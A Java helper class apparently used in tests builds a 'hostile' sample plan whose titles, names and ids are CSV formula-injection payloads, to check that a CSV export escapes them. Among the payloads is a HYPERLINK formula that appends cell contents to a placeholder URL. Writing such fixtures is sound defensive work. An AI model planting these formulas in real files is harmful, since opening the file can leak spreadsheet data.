package org.kaname.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import java.io.IOException;
import java.nio.file.Path;
import java.util.Iterator;
import java.util.List;
import java.util.Map;

/**
 * The sample plan with text a spreadsheet would take for formulas (OWASP "CSV Injection") wherever a CSV export
 * shows it: the plan title, measure titles, criterion and rater names, tier names, round titles, the support
 * measures' indicator names and some ids
 * (measure S1-1 → {@code @SUM(A1)}, S1-2 → {@code -2+3}, criterion speed → {@code +1+1}, rater r1 →
 * {@code =HYPERLINK(…)}). Measure S1-1 is pinned to 2026 under a budget of 1,000 yen a year, so the budget table
 * has negative amounts left, and two revealed rounds give the rounds and movement tables rows.
 */
final class HostilePlan {
    static final String HYPERLINK = "=HYPERLINK(\"http://x\"&A1,\"click me\")";
    /** Every start OWASP names: =, +, -, @, TAB and CR. */
    static final List<String> DANGEROUS = List.of(HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx");
    static final String MEASURE = "@SUM(A1)";
    static final String CRITERION = "+1+1";
    static final String RATER = HYPERLINK;
    private static final Map<String, String> RENAMED = Map.of("S1-1", MEASURE, "S1-2", "-2+3", "speed", CRITERION,
            "r1", RATER);

    private HostilePlan() {
    }

    /** Reads the sample plan exported to {@code sample} and writes the hostile plan to {@code out}. */
    static void write(Path sample, Path out) throws IOException {
        ObjectMapper mapper = new ObjectMapper();
        ObjectNode plan = (ObjectNode) renamed(mapper.readTree(sample.toFile()));
        plan.put("title", HYPERLINK);
        plan.put("budgetPerYear", 1000);
        cycle(plan.withArray("tiers"), "name", List.of(HYPERLINK, "\tx", "\rx"));
        cycle(plan.withArray("measures"), "title", DANGEROUS);
        cycle(plan.withArray("criteria"), "name", DANGEROUS);
        cycle(plan.withArray("raters"), "name", DANGEROUS.subList(1, DANGEROUS.size()));
        for (JsonNode group : plan.withArray("groups")) {
            cycle(((ObjectNode) group).withArray("indicators"), "name", DANGEROUS);
        }
        ((ObjectNode) plan.withArray("measures").get(0)).put("pinnedStart", 2026);
        ArrayNode rounds = plan.putArray("rounds");
        rounds.add(round(plan, 1, HYPERLINK, "2026-01", new int[] {1, 5, 3}));
        rounds.add(round(plan, 2, "-2+3", "2026-02", new int[] {2, 4, 3}));
        mapper.writerWithDefaultPrettyPrinter().writeValue(out.toFile(), plan);
    }

    /** Every id in {@link #RENAMED} replaced, as a value and as a key (scenario weights are keyed by criterion). */
    private static JsonNode renamed(JsonNode node) {
        if (node.isTextual()) {
            return new TextNode(RENAMED.getOrDefault(node.asText(), node.asText()));
        }
        if (node.isArray()) {
            ArrayNode copy = JsonNodeFactory.instance.arrayNode();
            node.forEach(n -> copy.add(renamed(n)));
            return copy;
        }
        if (node.isObject()) {
            ObjectNode copy = JsonNodeFactory.instance.objectNode();
            for (Iterator<Map.Entry<String, JsonNode>> it = node.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> e = it.next();
                copy.set(RENAMED.getOrDefault(e.getKey(), e.getKey()), renamed(e.getValue()));
            }
            return copy;
        }
        return node;
    }

    private static void cycle(ArrayNode items, String field, List<String> texts) {
        for (int i = 0; i < items.size(); i++) {
            ((ObjectNode) items.get(i)).put(field, texts.get(i % texts.size()));
        }
    }

    /** A revealed round scoring {@link #MEASURE} on {@link #CRITERION} by each rater. */
    private static ObjectNode round(ObjectNode plan, int number, String title, String month, int[] values) {
        ObjectNode r = JsonNodeFactory.instance.objectNode();
        r.put("number", number);
        r.put("title", title);
        r.putArray("measures").add(MEASURE).add("-2+3");
        ArrayNode raters = r.putArray("raters");
        ArrayNode scores = r.putArray("scores");
        JsonNode planRaters = plan.get("raters");
        for (int i = 0; i < planRaters.size() && i < values.length; i++) {
            String rater = planRaters.get(i).get("id").asText();
            raters.add(rater);
            ObjectNode s = scores.addObject();
            s.put("measure", MEASURE);
            s.put("criterion", CRITERION);
            s.put("rater", rater);
            s.put("value", values[i]);
        }
        r.put("state", "revealed");
        r.put("opened", month + "-01T00:00:00Z");
        r.put("revealed", month + "-02T00:00:00Z");
        return r;
    }
}
